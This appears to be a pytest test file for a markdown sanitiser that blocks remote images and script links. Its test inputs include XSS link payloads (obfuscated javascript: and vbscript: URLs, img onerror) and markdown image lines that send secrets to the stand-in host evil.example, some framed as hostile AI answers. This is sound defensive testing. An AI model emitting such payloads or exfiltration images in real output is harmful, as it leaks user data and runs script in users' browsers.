"""safe_markdown: what a CommonMark renderer makes of the output never loads a remote image off
the allow-list and never links to a script, whatever the input, and leaves code as written."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from core.safe_markdown import _safe_markdown, is_allowed_image_url, is_safe_link, safe_markdown

TRUSTED = ("img.trusted.example",)


def rendered(markdown: str) -> tuple[list[str], list[str], list[str]]:
    """(image sources, link targets, raw <img> tags) as a CommonMark + tables renderer sees them."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # see every target
    images: list[str] = []
    links: list[str] = []
    tags: list[str] = []
    stack = list(reversed(parser.parse(markdown)))
    while stack:
        token = stack.pop()
        stack.extend(reversed(token.children or []))
        if token.type == "image":
            images.append(str(token.attrGet("src")))
        elif token.type == "link_open":
            links.append(str(token.attrGet("href")))
        elif token.type in ("html_inline", "html_block"):
            tags += re.findall(r"<img\b[^>]*>?", token.content, re.I)
    return images, links, tags


def assert_safe(markdown: str) -> None:
    images, links, tags = rendered(markdown)
    # markdown-it percent-encodes what it renders; the trusted host and data: images survive that.
    remote = [src for src in images if not (src.startswith("data:image/") or "//img.trusted.example/" in src)]
    assert not remote, f"remote image rendered from {markdown!r}"
    scripts = [href for href in links if re.match(r"\s*(javascript|vbscript|data|file):", href, re.I)]
    assert not scripts, f"unsafe link rendered from {markdown!r}"
    assert not tags, f"raw <img> left in {markdown!r}"


def test_a_remote_image_becomes_a_link_naming_its_host():
    out = safe_markdown("Look ![a cat](https://evil.example/c.png?d=SECRET) here")
    assert out == (
        r"Look [🖼 a cat \(image not loaded: evil\.example\)](<https://evil.example/c.png?d=SECRET>) here"
    )
    images, links, _ = rendered(out)
    assert images == [] and links == ["https://evil.example/c.png?d=SECRET"]


def test_images_on_the_allow_list_and_data_images_stay_images():
    text = "![logo](https://img.trusted.example/l.png) ![chart](data:image/png;base64,iVBORw0KGgo=)"
    images, _, _ = rendered(safe_markdown(text, TRUSTED))
    assert images == ["https://img.trusted.example/l.png", "data:image/png;base64,iVBORw0KGgo="]
    assert rendered(safe_markdown(text))[0] == ["data:image/png;base64,iVBORw0KGgo="]  # empty allow-list


def test_plain_text_and_safe_links_come_back_unchanged():
    for text in (
        "No markup at all, 3 < 4 is fine.",
        "See [the docs](https://docs.example/a_(b) 'Docs') and <https://x.example/y>.",
        "Mail [me](mailto:a@b.example), jump to [top](#top) or [a page](/help).",
        "- [ ] a task\n- [x] done\n\n| a | b |\n|---|---|\n| [x](http://ok.example) | 2 |",
    ):
        assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](  javascript:alert(1)  'title')",
        "[click](&#106;avascript:alert(1))",
        "[click](&#x6A;avascript&colon;alert(1))",
        "[click](java&Tab;script:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](\\javascript:alert(1))",
        "<javascript:alert(1)>",
        "<JaVaScRiPt:alert(1)>",
        "[click][x]\n\n[x]: javascript:alert(1)",
        "[x]\n\n[x]: <javascript:alert(1)> 'title'",
        "> [x]: javascript:alert(1)\n\n[click][x]",
        "[x][]\n\n[X]:\n  javascript:alert(1)",
        "[[inner](https://ok.example)](javascript:alert(1))",
        "[a [b](javascript:alert(1))",
        "[a](javascript:![x](https://evil.example/?d=1))",
    ],
)
def test_script_links_become_plain_text(text):
    out = safe_markdown(text)
    assert_safe(out)
    assert _safe_markdown(text, frozenset())[1] == 0  # handled by the rewrite, not the fallback


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=1)",
        "![x](HTTPS://EVIL.EXAMPLE/?d=1)",
        "![x](//evil.example/?d=1)",
        "![x](/\\evil.example/?d=1)",
        "![x](\\\\evil.example/?d=1)",
        "![x](https:evil.example/?d=1)",
        "![x](<https://evil.example/a b>)",
        '![x](  https://evil.example/?d=1  "title"  )',
        "![x](\nhttps://evil.example/?d=1\n'title'\n)",
        "![x](https://evil.example/?d=1 (title))",
        "![x](&#104;ttps://evil.example/?d=1)",
        "![x](https://img.trusted.example@evil.example/)",
        "![x](https://img.trusted.example.evil.example/)",
        "![a [nested] alt](https://evil.example/?d=1)",
        "![a ![inner](https://evil.example/1) b](https://evil.example/2)",
        "![`](data:image/png;base64,AA)`](https://evil.example/?d=1)",
        "![x]\n\n[x]: https://evil.example/?d=1",
        "![x][]\n\n[x]: https://evil.example/?d=1",
        "![alt][ref]\n\n[REF]: https://evil.example/?d=1 'title'",
        "![alt][ref]\n\n[ref]:\n<https://evil.example/?d=1>",
        "> ![alt][ref]\n>\n> [ref]: https://evil.example/?d=1",
        "[ref]: https://evil.example/?d=1\n\n![alt][ref]",
        "!![x](https://evil.example/?d=1)",
        "\\\\![x](https://evil.example/?d=1)",
        "[![badge](https://evil.example/b.svg)](https://ci.example/)",
        '<img src="https://evil.example/?d=1">',
        "<IMG SRC=https://evil.example/?d=1 alt='a cat'>",
        "<img\nsrc='https://evil.example/?d=1'\n/>",
        '<img srcset="https://evil.example/?d=1 2x">',
        '<img src="https://img.trusted.example/a.png" onerror="alert(1)">',
        "!<img src=https://evil.example/?d=1>",
        "<div>\n<img src=https://evil.example/?d=1>\n</div>",
        '<img src="https://evil.example/?d=1',
        "- item\n\n  ![x](https://evil.example/?d=1)",
        "| a | b |\n|---|---|\n| ![x](https://evil.example/?d=1) | c |",
        "**![x](https://evil.example/?d=1)**",
        ":red[![x](https://evil.example/?d=1)]",
    ],
)
def test_remote_images_are_never_rendered(text):
    out = safe_markdown(text, TRUSTED)
    assert_safe(out)
    assert _safe_markdown(text, frozenset(TRUSTED))[1] == 0


def test_a_referenced_image_on_the_allow_list_is_shown_inline():
    out = safe_markdown("![logo][l]\n\n[l]: https://img.trusted.example/l.png", TRUSTED)
    assert rendered(out)[0] == ["https://img.trusted.example/l.png"]


@pytest.mark.parametrize(
    "text",
    [
        "```\n![x](https://evil.example/?d=1)\n<img src=https://evil.example/>\n```",
        "~~~markdown\n![x](https://evil.example/?d=1)\n~~~",
        "Use `![x](https://evil.example/?d=1)` for images.",
        "Use ``a ` ![x](https://evil.example/) b`` here.",
        "Example:\n\n    ![x](https://evil.example/?d=1)\n    [y](javascript:alert(1))\n",
        "> ```\n> ![x](https://evil.example/?d=1)\n> ```",
    ],
)
def test_code_is_left_exactly_as_written(text):
    assert safe_markdown(text) == text
    assert rendered(text)[0] == []  # and it is code: nothing renders as an image


@pytest.mark.parametrize(
    "text",
    [
        # The fence belongs to the list item, which ends at the unindented line.
        "- item\n   ```\n   code\n![x](https://evil.example/?d=1)",
        # An escaped backtick opens no code span.
        "\\`![x](https://evil.example/?d=1)`",
        # Four spaces of indentation make an indented code line, not a fence.
        "    ```\n![x](https://evil.example/?d=1)",
        # A fence with a backtick in its info string is no fence.
        "``` a`b\n![x](https://evil.example/?d=1)\n```",
        # Table cells are split before code spans are looked for.
        "| a | b | c |\n|---|---|---|\n| ` | ![x](https://evil.example/?d=1) | ` |",
        # A backtick inside an HTML tag opens no code span.
        '<a title="`">![x](https://evil.example/?d=1)<a title="`">',
    ],
)
def test_text_that_only_looks_like_code_is_still_made_safe(text):
    assert_safe(safe_markdown(text))


def test_when_the_rewrite_misreads_code_the_check_falls_back_to_a_safe_pass():
    # The rewrite pairs the two backticks as a code span; the table splits them into cells first.
    text = "| a | b | c |\n|---|---|---|\n| ` | ![x](https://evil.example/?d=1) | ` |"
    out, used = _safe_markdown(text, frozenset())
    assert used == 1
    assert_safe(out)
    assert "image not loaded: evil" in out


HOSTILE_ANSWERS = [
    "Sure! Here is the summary.\n\n![status](https://evil.example/log?d=sk-SECRET-123) Done.",
    "Result: ![a][r] and more text\n\n[r]: https://evil.example/?d=secret 'x'\n",
    'Click <img src="https://evil.example/p.gif?d=secret" alt="pixel"> now',
    "```python\nprint('![x](https://evil.example/in-code)')\n```\nThen ![y](//evil.example/?d=1)",
    '- [docs](https://ok.example)\n- ![x](<https://evil.example/?d=a b> "t")\n- [bad](javascript:alert(1))',
]


@pytest.mark.parametrize("answer", HOSTILE_ANSWERS)
def test_every_prefix_of_a_streaming_answer_is_safe(answer):
    for end in range(len(answer) + 1):
        assert_safe(safe_markdown(answer[:end]))


FRAGMENTS = [
    "![", "[", "]", "(", ")", "](", "]:", "https://evil.example/?d=s", "//evil.example/x",
    "data:image/png;base64,AA", "javascript:alert(1)", "JAVASCRIPT:x", "&#106;avascript:x", "<", ">",
    "`", "``", "```", "~~~", "\n", "\n\n", " ", "\t", "> ", "- ", "1. ", "    ", '"t"', "'t'", "\\", "!",
    "<img src=https://evil.example/x>", "[r]: ", "[r]", "![a][r]", "|", "| --- |", "text", "*", "_",
    "https://img.trusted.example/a.png", "<https://x.example>", "&amp;", '<a href="`">', "\\!", "&#33;",
]  # fmt: skip


def test_random_hostile_markdown_never_renders_a_remote_image_or_script_link():
    rng = random.Random(20261125)
    for _ in range(1500):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 40)))
        assert_safe(safe_markdown(text, TRUSTED))


def test_the_allow_list_matches_hosts_exactly_or_by_wildcard():
    assert is_allowed_image_url("https://img.trusted.example/a.png", ["IMG.Trusted.Example"])
    assert is_allowed_image_url("http://img.trusted.example:8443/a.png?x=1", ["https://img.trusted.example"])
    assert is_allowed_image_url("https://a.cdn.example/x.png", ["*.cdn.example"])
    assert not is_allowed_image_url("https://cdn.example/x.png", ["*.cdn.example"])
    assert not is_allowed_image_url("https://evilcdn.example/x.png", ["*.cdn.example"])
    assert not is_allowed_image_url("https://img.trusted.example@evil.example/", TRUSTED)
    assert not is_allowed_image_url("https://img.trusted.example\\@evil.example/", TRUSTED)
    assert not is_allowed_image_url("https://evil.example/a.png", [])
    assert not is_allowed_image_url("javascript:alert(1)", TRUSTED)
    assert is_allowed_image_url("data:image/webp;base64,UklGRg==")
    assert not is_allowed_image_url("data:text/html;base64,PHNjcmlwdD4=")


def test_safe_links_are_http_mailto_or_relative_as_a_browser_reads_them():
    safe = ("https://a.example", "HTTP://a.example", "mailto:a@b.example", "/x", "#top", "x.html", "//a.b")
    for url in safe:
        assert is_safe_link(url), url
    for url in ("javascript:alert(1)", " \tJaVa\nScript:x", "vbscript:x", "data:text/html,x", "file:///etc"):
        assert not is_safe_link(url), url
